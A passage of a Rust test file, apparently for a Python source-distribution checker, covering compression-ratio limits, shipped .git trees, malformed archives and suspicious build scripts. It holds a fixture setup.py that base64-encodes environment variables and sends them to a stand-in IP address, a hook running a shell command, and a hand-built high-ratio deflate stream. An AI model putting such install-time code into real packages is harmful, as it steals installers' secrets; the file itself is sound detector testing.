            }
            let last = self.out.last_mut().unwrap();
            *last |= u8::try_from((value >> i) & 1).unwrap() << self.bit;
            self.bit = (self.bit + 1) % 8;
        }
    }

    /// A Huffman code of `len` bits, most significant bit first.
    fn code(&mut self, code: u32, len: u32) {
        for i in (0..len).rev() {
            self.bits((code >> i) & 1, 1);
        }
    }
}

/// A raw deflate stream of `prefix` (stored) followed by `zeros` zero bytes in one dynamic
/// block whose codes are as short as deflate allows: a 258-byte match at distance 1 costs two
/// bits, deflate's ceiling of about 1032:1.
fn deflate_at_the_ceiling(prefix: &[u8], zeros: usize) -> Vec<u8> {
    let mut w = BitWriter::default();
    // Stored block (BFINAL 0, BTYPE 00), aligned to a byte, LEN and NLEN.
    w.bits(0, 3);
    w.bit = 0;
    let len = u16::try_from(prefix.len()).unwrap();
    w.out.extend_from_slice(&len.to_le_bytes());
    w.out.extend_from_slice(&(!len).to_le_bytes());
    w.out.extend_from_slice(prefix);
    // Dynamic block (BFINAL 1, BTYPE 10): 286 lit/len codes, 1 distance code, 18 code-length
    // codes.
    w.bits(1, 1);
    w.bits(2, 2);
    w.bits(29, 5);
    w.bits(0, 5);
    w.bits(14, 4);
    // Code-length code lengths in RFC 1951 order: 18 -> 1 bit, 2 and 1 -> 2 bits.
    let order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1];
    for symbol in order {
        w.bits(
            match symbol {
                18 => 1,
                1 | 2 => 2,
                _ => 0,
            },
            3,
        );
    }
    // Canonical code-length codes: 18 = `0`, 1 = `10`, 2 = `11`.
    let run_of_zeros = |w: &mut BitWriter, n: u32| {
        w.code(0, 1);
        w.bits(n - 11, 7);
    };
    // Lit/len lengths: 0 -> 2, 1..=255 -> 0, 256 -> 2, 257..=284 -> 0, 285 -> 1; distance 0 -> 1.
    w.code(0b11, 2);
    run_of_zeros(&mut w, 138);
    run_of_zeros(&mut w, 117);
    w.code(0b11, 2);
    run_of_zeros(&mut w, 28);
    w.code(0b10, 2);
    w.code(0b10, 2);
    // Canonical lit/len codes: 285 = `0`, 0 = `10`, 256 = `11`; distance 0 = `0`.
    w.code(0b10, 2);
    let mut left = zeros - 1;
    while left >= 258 {
        w.code(0, 1);
        w.code(0, 1);
        left -= 258;
    }
    for _ in 0..left {
        w.code(0b10, 2);
    }
    w.code(0b11, 2);
    w.out
}

/// SD-10 above a ratio of 1000 is an error: one 32 MiB member of zeros, deflated by hand at
/// deflate's ceiling (no compressor in the test tree gets past about 990:1).
#[test]
fn err_compression_ratio_above_1000_sd10() {
    let mut tar = Tar::new();
    tar.file(&root("zeros.bin"), &vec![0u8; 32 * 1024 * 1024]);
    let bytes = tar.finish();
    let (header, rest) = bytes.split_at(512);
    assert!(rest.iter().all(|&b| b == 0), "one header, then zeros");
    let raw = deflate_at_the_ceiling(header, rest.len());
    let mut sdist = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    sdist.extend_from_slice(&raw);
    sdist.extend_from_slice(&crc32fast::hash(&bytes).to_le_bytes());
    sdist.extend_from_slice(&u32::try_from(bytes.len()).unwrap().to_le_bytes());
    // The stream is sound: flate2 inflates it to the tar.
    let mut inflated = Vec::new();
    std::io::Read::read_to_end(
        &mut flate2::read::GzDecoder::new(sdist.as_slice()),
        &mut inflated,
    )
    .unwrap();
    assert!(
        inflated == bytes,
        "the hand-made stream inflates to the tar"
    );

    let finding = assert_error(&sdist, "SD-10");
    assert!(
        finding.message.contains("(ratio 10") && finding.message.contains("expected at most 100"),
        "{finding:?}"
    );
}

/// SD-10 between 100 and 1000 is a warning: 2 MiB of 4 KiB blocks, each 4 pseudo-random bytes
/// and then zeros, inflate about 350:1.
#[test]
fn warn_compression_ratio_above_100_sd10() {
    let mut data = Vec::with_capacity(2 * 1024 * 1024);
    let mut x: u32 = 1;
    for _ in 0..512 {
        for _ in 0..4 {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345) & 0x7fff_ffff;
            data.push((x >> 16) as u8);
        }
        data.resize(data.len() + 4092, 0);
    }
    let mut tar = baseline_tar();
    tar.file(&root("sparse.bin"), &data);
    let finding = assert_warning(&finished(&tar), "SD-10");
    assert!(
        finding.message.contains("expected at most 100"),
        "{finding:?}"
    );
}

#[test]
fn err_git_directory_shipped_sd11() {
    let mut tar = baseline_tar();
    tar.file(&root(".git/config"), b"[core]\n");
    tar.file(&root(".git/HEAD"), b"ref: refs/heads/main\n");
    let bytes = finished(&tar);
    let finding = assert_error(&bytes, "SD-11");
    assert_eq!(finding.member.as_deref(), Some("foo-1.0/.git"));
    let count = findings(&bytes)
        .iter()
        .filter(|f| f.id.as_str() == "SD-11")
        .count();
    assert_eq!(count, 1, "one finding per unwanted tree");
}

#[test]
fn warn_pycache_shipped_sd11() {
    let mut tar = baseline_tar();
    tar.file(
        &root("src/foo/__pycache__/__init__.cpython-311.pyc"),
        b"\x00",
    );
    let finding = assert_warning(&finished(&tar), "SD-11");
    assert_eq!(
        finding.member.as_deref(),
        Some("foo-1.0/src/foo/__pycache__")
    );
}

#[test]
fn ok_dotfiles_that_are_not_vcs_data_sd11() {
    let mut tar = baseline_tar();
    tar.file(&root(".gitignore"), b"dist/\n");
    tar.file(&root(".github/workflows/ci.yml"), b"on: push\n");
    tar.file(&root("src/foo/build.py"), b"");
    assert_clean(&finished(&tar));
}

#[test]
fn warn_build_machine_owner_sd06() {
    let mut tar = baseline_tar();
    let mut header = Header::file(&root("x.py"), 1);
    header.uid = 1001;
    header.uname = b"runner".to_vec();
    tar.entry(&header, b"x");
    let finding = assert_warning(&finished(&tar), "SD-06");
    assert!(finding.message.contains("runner"), "{finding:?}");
}

// Robustness: malformed input is findings, never a panic.

/// A small deterministic xorshift generator, so failures reproduce.
fn next(state: &mut u64) -> u64 {
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    *state
}

#[test]
fn ok_mutated_and_truncated_sdists_give_findings_not_panics() {
    let tar = baseline_tar().finish();
    let sdist = gzip(&tar);
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    for round in 0..600 {
        let pick = |state: &mut u64, len: usize| (next(state) % len as u64) as usize;
        let bytes = match round % 3 {
            // A flipped byte in the tar stream, gzipped validly.
            0 => {
                let mut tar = tar.clone();
                let at = pick(&mut state, tar.len());
                tar[at] ^= (next(&mut state) % 255 + 1) as u8;
                gzip(&tar)
            }
            // A flipped byte anywhere in the gzip file.
            1 => {
                let mut bytes = sdist.clone();
                let at = pick(&mut state, bytes.len());
                bytes[at] ^= (next(&mut state) % 255 + 1) as u8;
                bytes
            }
            // A truncated gzip file.
            _ => sdist[..pick(&mut state, sdist.len())].to_vec(),
        };
        let _ = findings(&bytes);
    }
}

#[test]
fn err_every_flipped_trailer_byte_is_caught_sd01() {
    let sdist = tarwriter::baseline_sdist();
    for back in 1..=8 {
        let mut bytes = sdist.clone();
        let at = bytes.len() - back;
        bytes[at] ^= 0x40;
        assert_error(&bytes, "SD-01");
    }
}

/// An sdist may be built on Windows, so a member named after a device is an error there, as in
/// an `any` wheel (PATH-05).
#[test]
fn err_path05_windows_device_name_in_sdist() {
    let mut tar = baseline_tar();
    tar.file(&format!("{ROOT}/src/foo/aux.py"), b"X = 1\n");
    let finding = assert_error(&finished(&tar), "PATH-05");
    assert!(finding.message.contains("`aux.py`"), "{}", finding.message);
}

/// FN-03 owns the file name against PKG-INFO: `foo-1.0.0.tar.gz` with `Version: 1.0` is the same
/// value spelled differently, and sdists must match exactly (PyPI compares the strings too).
/// META-05 has nothing to say: `1.0` is valid and canonical.
#[test]
fn err_fn03_sdist_version_spelled_differently() {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        tar.file(&format!("foo-1.0.0/{path}"), &data);
    }
    let all = verify_bytes("foo-1.0.0.tar.gz", &finished(&tar), &options())
        .0
        .findings;
    let ids: Vec<(&str, Severity)> = all
        .iter()
        .filter(|f| matches!(f.id.as_str(), "FN-03" | "META-05"))
        .map(|f| (f.id.as_str(), f.severity))
        .collect();
    assert_eq!(ids, [("FN-03", Severity::Error)], "{all:#?}");
}

/// FN-07's file-type rule says what the file is: eggs and Windows installers are formats PyPI no
/// longer takes, a `.zip` sdist was replaced by `.tar.gz`; each gets its own message.
#[test]
fn err_fn07_file_types_each_named() {
    for (filename, says) in [
        ("foo-1.0-py3.11.egg", "an egg"),
        ("foo-1.0.win-amd64.exe", "a Windows installer"),
        ("foo-1.0.zip", "a `.zip` sdist"),
        ("notes.txt", "not a distribution file"),
    ] {
        let all = verify_bytes(filename, b"PK\x05\x06", &options()).0.findings;
        let fn07: Vec<&Finding> = all.iter().filter(|f| f.id.as_str() == "FN-07").collect();
        assert_eq!(fn07.len(), 1, "{filename}: {all:#?}");
        assert_eq!(fn07[0].severity, Severity::Error);
        assert!(
            fn07[0].message.contains(says) && fn07[0].message.contains(filename),
            "{filename}: {}",
            fn07[0].message
        );
    }
}

/// The SEC-04 findings of the baseline sdist with members added or replaced (paths below the
/// root).
fn sec04(extra: &[(&str, &str)]) -> Vec<Finding> {
    let mut tar = Tar::new();
    for (path, data) in tarwriter::baseline_files() {
        if !extra.iter().any(|(p, _)| *p == path) {
            tar.file(&format!("{ROOT}/{path}"), &data);
        }
    }
    for (path, data) in extra {
        tar.file(&format!("{ROOT}/{path}"), data.as_bytes());
    }
    findings(&finished(&tar))
        .into_iter()
        .filter(|f| f.id.as_str() == "SEC-04")
        .collect()
}

const EXFILTRATING_SETUP: &str = "import base64, os, platform, socket\n\
from setuptools import setup\n\
\n\
data = base64.b64encode(f'{platform.node()}|{os.environ}'.encode())\n\
s = socket.create_connection(('203.0.113.9', 443))\n\
s.sendall(data)\n\
setup(name='foo')\n";

#[test]
fn warn_sec04_setup_py_network_and_encoded_system_info() {
    let found = sec04(&[("setup.py", EXFILTRATING_SETUP)]);
    let described: Vec<(Severity, &str, &str)> = found
        .iter()
        .map(|f| {
            (
                f.severity,
                f.member.as_deref().unwrap_or_default(),
                f.message.as_str(),
            )
        })
        .collect();
    assert_eq!(found.len(), 2, "{found:#?}");
    for (severity, member, _) in &described {
        assert_eq!(*severity, Severity::Warning);
        assert_eq!(*member, "foo-1.0/setup.py");
    }
    assert!(
        described[0]
            .2
            .contains("network module at line 1 (`import socket`)"),
        "{}",
        described[0].2
    );
    assert!(
        described[1].2.contains("base64-encodes it at line 4"),
        "{}",
        described[1].2
    );
}

#[test]
fn warn_sec04_in_tree_backend_and_hatch_hook() {
    let pyproject = "[build-system]\nrequires = []\nbuild-backend = \"backend\"\n\
        backend-path = [\"_custom_build\"]\n\n[project]\nname = \"foo\"\nversion = \"1.0\"\n";
    let found = sec04(&[
        ("_custom_build/backend.py", "import urllib.request\n"),
        (
            "hatch_build.py",
            "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n",
        ),
        ("pyproject.toml", pyproject),
    ]);
    let members: Vec<&str> = found.iter().filter_map(|f| f.member.as_deref()).collect();
    assert_eq!(
        members,
        ["foo-1.0/_custom_build/backend.py", "foo-1.0/hatch_build.py"],
        "{found:#?}"
    );
    assert!(
        found[0].message.contains("in-tree build backend"),
        "{}",
        found[0].message
    );
    assert!(
        found[1].message.contains("`subprocess.Popen(`"),
        "{}",
        found[1].message
    );
}

/// An ordinary setup.py: `import subprocess` to ask git for the version, `urllib.parse`,
/// `platform.system()`. And the same risky code in a library module, which no build runs.
#[test]
fn ok_sec04_ordinary_setup_py_and_library_code() {
    let setup = "import platform, subprocess\nfrom urllib.parse import urljoin\n\
        from setuptools import setup\n\
        version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n\
        if platform.system() == 'Windows':\n    pass\n\
        setup(name='foo', version=version)\n";
    let found = sec04(&[("setup.py", setup), ("src/foo/net.py", EXFILTRATING_SETUP)]);
    assert!(found.is_empty(), "{found:#?}");
}
